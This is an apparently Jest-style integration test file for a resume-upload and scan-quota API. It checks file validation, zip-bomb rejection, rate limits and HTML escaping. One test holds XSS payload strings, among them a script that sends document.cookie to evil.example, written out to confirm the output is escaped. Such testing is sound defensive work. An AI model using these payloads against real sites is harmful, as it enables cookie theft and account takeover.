import {
  AuthResponseSchema,
  ErrorResponseSchema,
  ProfileSchema,
  ResumeSummarySchema,
  ResumeUploadResultSchema,
  ScanLimitErrorSchema,
  UsageStatusSchema,
} from '@resumebeat/shared-contract';
import { FEEDBACK_TAGS } from '@resumebeat/ats-engine';
import { eq } from 'drizzle-orm';
import { scanEvents, scanQuotas } from '../../src/db/schema';
import {
  fixtureBytes,
  fixtureResume,
  fixtureText,
  makeDeclaredZipBomb,
  makeDocx,
  makeLyingZipBomb,
  makePdf,
  multipart,
  pngBytes,
  TEXT_RESUME,
  type FilePart,
} from '../support/resume-files';
import { bearer, describeDb, expectContract, newAccount, startTestApp, type TestApp } from '../support/test-app';

const JOHN_DOE = 'resumes/john_doe.pdf';
const JAVA_JOB = 'jds/java-developer.txt';
const textFile = (data = TEXT_RESUME, fileName = 'resume.txt'): FilePart => ({ fileName, data, type: 'text/plain' });

/** Every tag in the HTML is one the engine's feedback may use: nothing from the input became markup. */
function expectSafeHtml(html: string) {
  const tags = [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)/g)].map((match) => match[1]!.toLowerCase());
  expect(tags.filter((tag) => !(FEEDBACK_TAGS as readonly string[]).includes(tag))).toEqual([]);
}

describeDb('resume upload', () => {
  let t: TestApp;
  let ipCounter = 0;
  /** Each test scans from its own IP, so anonymous budgets do not collide. */
  const nextIp = () => `198.51.100.${(ipCounter += 1)}`;

  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(async () => {
    await t.close();
    await t.database.dispose();
  });

  async function upload(
    file: FilePart | null,
    options: { fields?: Record<string, string>; headers?: Record<string, string>; ip?: string; query?: string } = {},
  ) {
    const body = await multipart(file, { industry: 'Tech', ...options.fields });
    return t.app.inject({
      method: 'POST',
      url: `/api/resume/upload${options.query ?? '?skipAi=true'}`,
      remoteAddress: options.ip ?? nextIp(),
      payload: body.payload,
      headers: { ...body.headers, ...options.headers },
    });
  }

  const usage = async (options: { headers?: Record<string, string>; ip?: string } = {}) =>
    expectContract(
      UsageStatusSchema,
      await t.app.inject({
        method: 'GET',
        url: '/api/resume/usage-status',
        headers: options.headers,
        remoteAddress: options.ip ?? '192.0.2.254',
      }),
    );

  async function register() {
    const account = newAccount();
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/auth/register',
      payload: account,
      remoteAddress: nextIp(),
    });
    const { token } = expectContract(AuthResponseSchema, response);
    const user = await t.app.usersRepository.findByUsernameOrEmail(account.username);
    return { token, headers: bearer(token), userId: user!.id };
  }

  describe('POST /api/resume/upload', () => {
    it('scans a PDF for an anonymous visitor: its text, the engine score and breakdown, escaped feedback, 2 scans left, nothing stored', async () => {
      const ip = nextIp();
      const response = await upload(
        { fileName: 'john_doe.pdf', data: fixtureBytes(JOHN_DOE), type: 'application/pdf' },
        { ip },
      );
      expect(response.statusCode).toBe(200);
      const result = expectContract(ResumeUploadResultSchema, response);
      expect(result.content).toMatch(/John Doe/i);
      expect(result.resumeContent).toBe(result.content);
      expect(result.aiAnalysis.score).toBeGreaterThan(0);
      expect(result.aiAnalysis.score).toBeLessThanOrEqual(100);
      expect(result.aiAnalysis.analysis).toContain(`ATS score: ${result.aiAnalysis.score}/100`);
      expectSafeHtml(result.aiAnalysis.analysis);
      expect(result.aiAnalysis.optimizedResume).toBeNull();
      expect(result.remainingScans).toBe(2);
      expect(result.hasPaidMembership).toBe(false);
      expect(result.id).toBeUndefined();
      expect(result.scoringVersion).toMatch(/^ats-/);
      expect(result.scoreComponents!.reduce((sum, c) => sum + c.score, 0)).toBeCloseTo(result.aiAnalysis.score, 0);
      expect(result.keywords).toBeNull();
      expect(result.jobDescription).toBeUndefined();
      expect(await usage({ ip })).toEqual({
        remainingScans: 2,
        scanCount: 1,
        hasActiveMembership: false,
        membershipType: 0,
      });
    });

    it('targets the job description: keyword report, and the job fields echoed back', async () => {
      const jobDescription = fixtureText(JAVA_JOB);
      const response = await upload(textFile(), {
        fields: { jobDescription, jobTitle: ' Java Developer ', companyName: 'Globex' },
      });
      const result = expectContract(ResumeUploadResultSchema, response);
      // FormData sends CRLF line breaks (as browsers do); the server keeps plain \n.
      expect(result.jobDescription).toBe(jobDescription.replace(/\r\n?/g, '\n').trim());
      expect(result.jobTitle).toBe('Java Developer');
      expect(result.companyName).toBe('Globex');
      expect(result.keywords!.matched.map((k) => k.keyword.toLowerCase())).toEqual(expect.arrayContaining(['java']));
      expect(result.keywords!.matchRate).toBeGreaterThan(0);
      expect(result.scoreComponents!.map((c) => c.id)).toEqual(expect.arrayContaining(['keywords', 'requirements']));
    });

    it('stores the scan of a signed-in user: id, listed in my-resumes, profile scanCount and lastScanDate', async () => {
      const { headers } = await register();
      const response = await upload(textFile(), { headers, fields: { industry: 'Finance', jobTitle: 'Engineer' } });
      const result = expectContract(ResumeUploadResultSchema, response);
      expect(typeof result.id).toBe('string');
      expect(result.remainingScans).toBe(2);
      const list = expectContract(
        ResumeSummarySchema.array(),
        await t.app.inject({ method: 'GET', url: '/api/resume/my-resumes', headers }),
      );
      expect(list).toEqual([
        expect.objectContaining({
          id: result.id,
          fileName: 'resume.txt',
          score: result.aiAnalysis.score,
          industry: 'Finance',
          jobTitle: 'Engineer',
          companyName: null,
        }),
      ]);
      const profile = expectContract(
        ProfileSchema,
        await t.app.inject({ method: 'GET', url: '/api/profile', headers }),
      );
      expect(profile.scanCount).toBe(1);
      expect(Date.now() - Date.parse(profile.lastScanDate!)).toBeLessThan(60_000);
    });

    it('reads a DOCX resume', async () => {
      const response = await upload({
        fileName: 'resume.docx',
        data: await makeDocx(fixtureResume()),
        type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      });
      const result = expectContract(ResumeUploadResultSchema, response);
      expect(result.content).toContain(fixtureResume().name);
    });

    it('without skipAi the AI layer (local engine) writes the optimized resume in the same call', async () => {
      const response = await upload(textFile(), { query: '', fields: { jobDescription: fixtureText(JAVA_JOB) } });
      const result = expectContract(ResumeUploadResultSchema, response);
      expect(result.aiAnalysis.optimizedResume).toEqual(expect.stringContaining('EXPERIENCE'));
    });

    it('an unknown industry is read as General; a field over its limit is 400', async () => {
      expect((await upload(textFile(), { fields: { industry: 'Astrology' } })).statusCode).toBe(200);
      const tooLong = await upload(textFile(), { fields: { jobTitle: 'x'.repeat(201) } });
      expect(tooLong.statusCode).toBe(400);
      expect(expectContract(ErrorResponseSchema, tooLong).message).toMatch(/jobTitle/);
    });

    it('escapes a resume full of <script> and HTML: the feedback carries it as text only', async () => {
      const hostile = [
        'Mallory <script>alert(1)</script>',
        'mallory@example.com | <img src=x onerror=alert(2)>',
        '',
        'EXPERIENCE',
        'Engineer <b onmouseover=alert(3)>X</b> | Evil Inc | 2020 – Present',
        '• Built <script>document.location="https://evil.example/?c="+document.cookie</script> pipelines',
        '• <iframe src="javascript:alert(4)"></iframe> reduced costs by 20%',
        '',
        'SKILLS',
        '<svg onload=alert(5)>, Java, "><script>alert(6)</script>',
      ].join('\n');
      const response = await upload(textFile(hostile), {
        fields: { jobDescription: 'Java <script>alert(7)</script> developer', jobTitle: '<b>Boss</b>' },
      });
      const result = expectContract(ResumeUploadResultSchema, response);
      expectSafeHtml(result.aiAnalysis.analysis);
      expect(result.aiAnalysis.analysis).not.toMatch(/<script|<img|<iframe|<svg|onerror=|<b /i);
      // The text itself comes back as text: the page renders it as text, never as HTML.
      expect(result.content).toContain('<script>alert(1)</script>');
    });

    it('answers 401 for an invalid or expired token (the session-expired path of docs/product/errors.md#upload-page) and counts nothing', async () => {
      const ip = nextIp();
      for (const headers of [bearer('not-a-token'), { authorization: 'Basic abc' }]) {
        const response = await upload(textFile(), { headers, ip });
        expect(response.statusCode).toBe(401);
        expectContract(ErrorResponseSchema, response);
      }
      expect((await usage({ ip })).scanCount).toBe(0);
    });

    const tenMegabytes = 10 * 1024 * 1024;
    it.each<[string, () => FilePart, number, RegExp]>([
      [
        'an empty file',
        () => ({ fileName: 'resume.pdf', data: new Uint8Array(0), type: 'application/pdf' }),
        400,
        /The file is empty/,
      ],
      [
        '10 MB + 1 byte',
        () => ({ fileName: 'resume.txt', data: Buffer.alloc(tenMegabytes + 1, 'a'), type: 'text/plain' }),
        413,
        /^File size must be less than 10MB$/,
      ],
      [
        'a PNG named .pdf',
        () => ({ fileName: 'resume.pdf', data: pngBytes(), type: 'application/pdf' }),
        415,
        /named as PDF but its content is a PNG image/,
      ],
      [
        'a PNG',
        () => ({ fileName: 'photo.png', data: pngBytes(), type: 'image/png' }),
        415,
        /Only PDF, DOCX, and TXT files are supported/,
      ],
      [
        'a text file named .rtf',
        () => ({ fileName: 'resume.rtf', data: 'Jane Roe resume text', type: 'application/rtf' }),
        415,
        /^Only PDF, DOCX, and TXT files are supported$/,
      ],
      [
        'an encrypted PDF',
        () => ({
          fileName: 'resume.pdf',
          data: makePdf(['Jane Roe', 'Engineer'], { userPassword: 'secret' }),
          type: 'application/pdf',
        }),
        422,
        /password-protected/,
      ],
      [
        'a corrupt PDF',
        () => ({
          fileName: 'resume.pdf',
          data: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >>\ntrailer garbage'),
          type: 'application/pdf',
        }),
        422,
        /PDF .*(damaged|could not be read)/,
      ],
      [
        'a scanned (image-only) PDF',
        () => ({ fileName: 'resume.pdf', data: makePdf([], { imageOnly: true }), type: 'application/pdf' }),
        422,
        /image/,
      ],
      [
        'a DOCX archive bomb (declared sizes)',
        () => ({ fileName: 'resume.docx', data: makeDeclaredZipBomb() }),
        413,
        /expands to far more data/,
      ],
      [
        'a DOCX archive bomb (lying sizes)',
        () => ({ fileName: 'resume.docx', data: makeLyingZipBomb() }),
        413,
        /expands to far more data/,
      ],
      [
        'a ZIP that is not a Word document',
        () => ({ fileName: 'resume.docx', data: Buffer.from('PK\u0005\u0006' + '\u0000'.repeat(18), 'latin1') }),
        415,
        /not a Word document/,
      ],
      [
        'a whitespace-only text file',
        () => ({ fileName: 'resume.txt', data: '   \n\n  ', type: 'text/plain' }),
        422,
        /no text/,
      ],
    ])('%s: a clear message, no scan used, the server stays up', async (_name, file, status, message) => {
      const ip = nextIp();
      const before = await usage({ ip });
      const response = await upload(file(), { ip });
      expect(response.statusCode).toBe(status);
      expect(expectContract(ErrorResponseSchema, response).message).toMatch(message);
      expect(await usage({ ip })).toEqual(before);
      expect((await t.app.inject({ method: 'GET', url: '/api/health' })).statusCode).toBe(200);
    });

    it('answers 400 "Please select a resume file first." without a file, and 415 for a JSON body', async () => {
      const none = await upload(null);
      expect(none.statusCode).toBe(400);
      expect(expectContract(ErrorResponseSchema, none).message).toBe('Please select a resume file first.');
      const json = await t.app.inject({ method: 'POST', url: '/api/resume/upload', payload: { file: 'x' } });
      expect(json.statusCode).toBe(415);
      expect(expectContract(ErrorResponseSchema, json).message).toMatch(/multipart\/form-data/);
    });
  });

  describe('scan limits', () => {
    it('anonymous: 3 scans in total per IP, then 429 with needsPayment false; another IP is unaffected', async () => {
      const ip = nextIp();
      const remaining = [];
      for (let i = 0; i < 3; i += 1)
        remaining.push(expectContract(ResumeUploadResultSchema, await upload(textFile(), { ip })).remainingScans);
      expect(remaining).toEqual([2, 1, 0]);
      const limited = await upload(textFile(), { ip });
      expect(limited.statusCode).toBe(429);
      const body = expectContract(ScanLimitErrorSchema, limited);
      expect(body).toEqual({ message: expect.stringMatching(/used your 3 free scans.*account/), needsPayment: false });
      expect(await usage({ ip })).toEqual({
        remainingScans: 0,
        scanCount: 3,
        hasActiveMembership: false,
        membershipType: 0,
      });
      // A file never read before is refused before it is parsed, with the same answer.
      const fresh = await upload(textFile(`${TEXT_RESUME}\nNew line ${Date.now()}`), { ip });
      expect(fresh.statusCode).toBe(429);
      expect(expectContract(ScanLimitErrorSchema, fresh).needsPayment).toBe(false);
      expect((await upload(textFile())).statusCode).toBe(200);
    });

    it('X-Forwarded-For is ignored unless TRUST_PROXY says so: a visitor cannot reset their count with it', async () => {
      const ip = nextIp();
      for (let i = 0; i < 3; i += 1)
        expect((await upload(textFile(), { ip, headers: { 'x-forwarded-for': `203.0.113.${i}` } })).statusCode).toBe(
          200,
        );
      expect((await upload(textFile(), { ip, headers: { 'x-forwarded-for': '203.0.113.99' } })).statusCode).toBe(429);
    });

    it('free account: 3 scans a day, then 429 with needsPayment true; yesterday does not count; anonymous budget untouched', async () => {
      const { headers, userId } = await register();
      const yesterday = new Date(Date.now() - 86_400_000);
      const yesterdayStart = new Date(
        Date.UTC(yesterday.getUTCFullYear(), yesterday.getUTCMonth(), yesterday.getUTCDate()),
      );
      await t.app.db.insert(scanQuotas).values({ subject: `user:${userId}`, windowStart: yesterdayStart, used: 3 });
      const ip = nextIp();
      expect(await usage({ headers, ip })).toEqual({
        remainingScans: 3,
        scanCount: 0,
        hasActiveMembership: false,
        membershipType: 0,
      });
      for (let i = 0; i < 3; i += 1) expect((await upload(textFile(), { headers, ip })).statusCode).toBe(200);
      const limited = await upload(textFile(), { headers, ip });
      expect(limited.statusCode).toBe(429);
      expect(expectContract(ScanLimitErrorSchema, limited)).toEqual({
        message: expect.stringMatching(/3 free scans for today.*Upgrade/),
        needsPayment: true,
      });
      expect(await usage({ headers, ip })).toEqual({
        remainingScans: 0,
        scanCount: 3,
        hasActiveMembership: false,
        membershipType: 0,
      });
      // The same IP without a token is a different (anonymous) budget.
      expect(await usage({ ip })).toEqual({
        remainingScans: 3,
        scanCount: 0,
        hasActiveMembership: false,
        membershipType: 0,
      });
    });

    it('paid member: unlimited scans, hasPaidMembership, remainingScans -1, counted in the profile', async () => {
      const { headers, userId } = await register();
      await t.app.membershipsRepository.create({ userId, planType: 2 });
      for (let i = 0; i < 5; i += 1) {
        const result = expectContract(ResumeUploadResultSchema, await upload(textFile(), { headers }));
        expect(result).toMatchObject({ remainingScans: -1, hasPaidMembership: true });
      }
      expect(await usage({ headers })).toEqual({
        remainingScans: -1,
        scanCount: 5,
        hasActiveMembership: true,
        membershipType: 2,
      });
      expect(
        expectContract(ProfileSchema, await t.app.inject({ method: 'GET', url: '/api/profile', headers })).scanCount,
      ).toBe(5);
    });

    it('a canceled, ended, future or Free-type membership is not a paid one', async () => {
      const { headers, userId } = await register();
      const hour = 3_600_000;
      await t.app.membershipsRepository.create({ userId, planType: 2, status: 'canceled' });
      await t.app.membershipsRepository.create({ userId, planType: 3, endsAt: new Date(Date.now() - hour) });
      await t.app.membershipsRepository.create({ userId, planType: 1, startedAt: new Date(Date.now() + hour) });
      await t.app.membershipsRepository.create({ userId, planType: 0 });
      expect(await usage({ headers })).toEqual({
        remainingScans: 3,
        scanCount: 0,
        hasActiveMembership: false,
        membershipType: 0,
      });
      await t.app.membershipsRepository.create({ userId, planType: 1, endsAt: new Date(Date.now() + hour) });
      expect(await usage({ headers })).toMatchObject({
        remainingScans: -1,
        hasActiveMembership: true,
        membershipType: 1,
      });
    });

    it('20 parallel anonymous uploads with 3 scans left succeed exactly 3 times', async () => {
      const ip = nextIp();
      const responses = await Promise.all(Array.from({ length: 20 }, () => upload(textFile(), { ip })));
      const statuses = responses.map((response) => response.statusCode);
      expect(statuses.filter((status) => status === 200)).toHaveLength(3);
      expect(statuses.filter((status) => status === 429)).toHaveLength(17);
      expect(
        responses
          .filter((r) => r.statusCode === 200)
          .map((r) => expectContract(ResumeUploadResultSchema, r).remainingScans)
          .sort(),
      ).toEqual([0, 1, 2]);
      const events = await t.app.db.select().from(scanEvents).where(eq(scanEvents.clientIp, ip));
      expect(events).toHaveLength(3);
    });

    it('20 parallel uploads of one account with 3 scans left: exactly 3 stored, scanCount 3', async () => {
      const { headers } = await register();
      const responses = await Promise.all(Array.from({ length: 20 }, () => upload(textFile(), { headers })));
      expect(responses.filter((response) => response.statusCode === 200)).toHaveLength(3);
      expect(responses.filter((response) => response.statusCode === 429)).toHaveLength(17);
      expect(
        expectContract(
          ResumeSummarySchema.array(),
          await t.app.inject({ method: 'GET', url: '/api/resume/my-resumes', headers }),
        ),
      ).toHaveLength(3);
      expect(
        expectContract(ProfileSchema, await t.app.inject({ method: 'GET', url: '/api/profile', headers })).scanCount,
      ).toBe(3);
    });
  });

  describe('GET /api/resume/usage-status', () => {
    it('anonymous: 3 left, none used, no membership', async () => {
      expect(await usage({ ip: nextIp() })).toEqual({
        remainingScans: 3,
        scanCount: 0,
        hasActiveMembership: false,
        membershipType: 0,
      });
    });

    it('answers 401 for an invalid token instead of treating the caller as anonymous', async () => {
      const response = await t.app.inject({
        method: 'GET',
        url: '/api/resume/usage-status',
        headers: bearer('expired.or.forged'),
      });
      expect(response.statusCode).toBe(401);
      expectContract(ErrorResponseSchema, response);
    });

    it('is not cached', async () => {
      const response = await t.app.inject({ method: 'GET', url: '/api/resume/usage-status', remoteAddress: nextIp() });
      expect(response.headers['cache-control']).toBe('no-store');
    });
  });
});
